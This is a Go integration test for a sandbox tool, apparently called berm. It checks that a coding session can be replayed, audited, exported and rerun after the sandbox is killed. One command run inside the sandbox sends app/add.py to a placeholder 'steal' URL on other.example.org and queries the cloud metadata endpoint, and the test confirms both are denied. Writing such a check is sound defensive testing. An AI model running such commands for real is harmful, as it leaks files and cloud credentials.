package network

import (
	"bytes"
	"encoding/json"
	"os"
	"os/exec"
	"path/filepath"
	"strings"
	"testing"
	"time"

	"github.com/berm-sandbox/berm/test/harness"
)

// bareRepository makes what a client of git's plain HTTP protocol can clone.
func bareRepository(t *testing.T) string {
	t.Helper()
	dir := t.TempDir()
	script := `set -e
git init -q work; cd work; git config user.email a@b.test; git config user.name a
printf 'def add(a, b):\n    return a - b\n' > add.py
printf 'import add\nassert add.add(2, 3) == 5, "2 + 3 is not 5"\nprint("ok")\n' > test_add.py
git add -A; git commit -qm first; cd ..
git clone -q --bare work app.git; cd app.git; git update-server-info`
	cmd := exec.Command("sh", "-c", script)
	cmd.Dir = dir
	if out, err := cmd.CombinedOutput(); err != nil {
		t.Fatalf("%v: %s", err, out)
	}
	return filepath.Join(dir, "app.git")
}

// A session of coding is told after the sandbox is gone: what was run, what changed, what was
// contacted, what was denied and why; and it is run again.
func TestReplayOfACodingSession(t *testing.T) {
	harness.Slow(t)
	if _, err := exec.LookPath("git"); err != nil {
		t.Skip("git is not installed")
	}
	t.Setenv(repository, bareRepository(t))
	ctx, s := start(t)
	sandbox := create(t, ctx, s, object{"network": network([]string{"files.example.com"}, []string{"0.0.0.0/0"})})
	run(t, ctx, sandbox, "git clone -q http://files.example.com/app.git app")
	if got := run(t, ctx, sandbox, "cd app && python3 -B test_add.py"); got.Code != 1 {
		t.Fatalf("the test ends with %d: %s", got.Code, got.Stderr)
	}
	if err := sandbox.Write(ctx, "user", "/home/user/app/add.py", strings.NewReader("def add(a, b):\n    return a + b\n")); err != nil {
		t.Fatal(err)
	}
	run(t, ctx, sandbox, "cd app && python3 -B test_add.py | tee out.txt; rm .git/description; ln -s out.txt latest")
	run(t, ctx, sandbox, "curl -sS -m 3 http://other.example.org/steal -d @app/add.py; curl -sS -m 3 http://"+metadata+"/latest/meta-data/; exit 7")
	if _, err := sandbox.Run(ctx, harness.Shell("nosuchuser", "true")); err == nil {
		t.Error("a user that is not there runs something")
	}
	running := make(chan struct{})
	go func() {
		defer close(running)
		_, _ = sandbox.Run(ctx, harness.Shell("user", "echo waits; sleep 300")) // until the sandbox is killed
	}()
	time.Sleep(time.Second)
	if err := sandbox.Kill(ctx); err != nil {
		t.Fatal(err)
	}
	<-running

	berm := func(code int, args ...string) string {
		t.Helper()
		binary, err := harness.Binary()
		if err != nil {
			t.Fatal(err)
		}
		cmd := exec.CommandContext(ctx, binary, args...)
		cmd.Env = append(os.Environ(), "BERM_URL="+s.URL, "BERM_SANDBOX_URL="+s.URL, "BERM_API_KEY="+s.Key, "XDG_CACHE_HOME="+t.TempDir(), "XDG_CONFIG_HOME="+t.TempDir(), "XDG_STATE_HOME="+t.TempDir())
		var stdout, stderr bytes.Buffer
		cmd.Stdout, cmd.Stderr = &stdout, &stderr
		if _ = cmd.Run(); cmd.ProcessState.ExitCode() != code {
			t.Fatalf("berm %s: exit code %d\n%s%s", strings.Join(args, " "), cmd.ProcessState.ExitCode(), stdout.String(), stderr.String())
		}
		return stdout.String()
	}
	has := func(what, got string, wants ...string) {
		t.Helper()
		for _, want := range wants {
			if !strings.Contains(got, want) {
				t.Errorf("%s lacks %q:\n%s", what, want, got)
			}
		}
	}
	account := []string{
		"exit 0", "git clone -q http://files.example.com/app.git app", "exit 1", "exit 7", "not started", "end not told",
		"| AssertionError: 2 + 3 is not 5", "| ok", "| waits",
		"add     /home/user/app/add.py", "add     /home/user/app/latest -> out.txt",
		"allow  files.example.com:80",
		"What it was allowed to reach\n  Allow files.example.com on ports 80 and 443.\n",
		"What was denied, and why", "deny   other.example.org", "deny   " + metadata + ":80", "metadata",
		"write /home/user/app/add.py", "ended: killed",
	}
	has("the account", berm(0, "replay", sandbox.ID), account...)
	has("the records", berm(0, "audit", "--verdict", "deny", "--host", "example.org"), sandbox.ID, "other.example.org")
	if got := berm(0, "audit", "--host", "example.net"); got != "" {
		t.Errorf("records of who was never asked for:\n%s", got)
	}
	has("what was run", berm(0, "audit", "--type", "exec.exit", "--path", "/", "--sandbox", sandbox.ID, "--json")+
		berm(0, "audit", "--type", "exec.exit", "--verdict", "failed", "--json"), `"code":7`)
	has("the difference", berm(0, "replay", "--html", "-", sandbox.ID), "+    return a + b", "<title>Sandbox "+sandbox.ID)
	type entry struct {
		At     float64
		Lane   string
		Output string
	}
	var printed string
	for line := range strings.Lines(berm(0, "replay", "--json", "--only", "output", sandbox.ID)) {
		var e entry
		if err := json.Unmarshal([]byte(line), &e); err != nil || e.Lane != "output" || e.At <= 0 {
			t.Fatalf("%s: %v", line, err)
		}
		printed += e.Output
	}
	has("the output", printed, "AssertionError", "ok\n", "waits\n")

	var again struct {
		Commands      []struct{ Was, Is, Output string }
		FilesKnown    bool
		Deterministic bool
		Only          []string
		OnlyAgain     []string
	}
	// Git's index has times in it, so that something differs.
	if err := json.Unmarshal([]byte(berm(1, "rerun", "--json", sandbox.ID)), &again); err != nil {
		t.Fatal(err)
	}
	if len(again.Commands) != 6 || !again.FilesKnown || again.Deterministic || len(again.Only) > 0 || len(again.OnlyAgain) > 0 {
		t.Errorf("%+v", again)
	}
	for _, c := range again.Commands {
		if c.Was != c.Is {
			t.Errorf("a command ended with %s, and again with %s", c.Was, c.Is)
		}
	}

	// Without asking the server, from its directory and from an export.
	log := filepath.Join(s.Data, "audit")
	has("the account without a server", berm(0, "replay", "--log", log, sandbox.ID), account...)
	export := filepath.Join(t.TempDir(), "session.zip")
	for end := time.Now().Add(20 * time.Second); ; time.Sleep(500 * time.Millisecond) { // a checkpoint is signed every few seconds
		binary, err := harness.Binary()
		if err != nil {
			t.Fatal(err)
		}
		out, err := exec.CommandContext(ctx, binary, "audit", "export", "--data", s.Data, "--output", export, sandbox.ID).CombinedOutput()
		if err == nil {
			break
		}
		if time.Now().After(end) {
			t.Fatalf("%v: %s", err, out)
		}
	}
	has("the account of an export", berm(0, "replay", "--log", export, sandbox.ID), account...)
	has("the records of an export", berm(0, "audit", "--log", export, "--verdict", "failed"), "exit 7")
	if keep := os.Getenv("BERM_TEST_KEEP"); keep != "" {
		_ = os.CopyFS(keep, os.DirFS(log))
	}
}
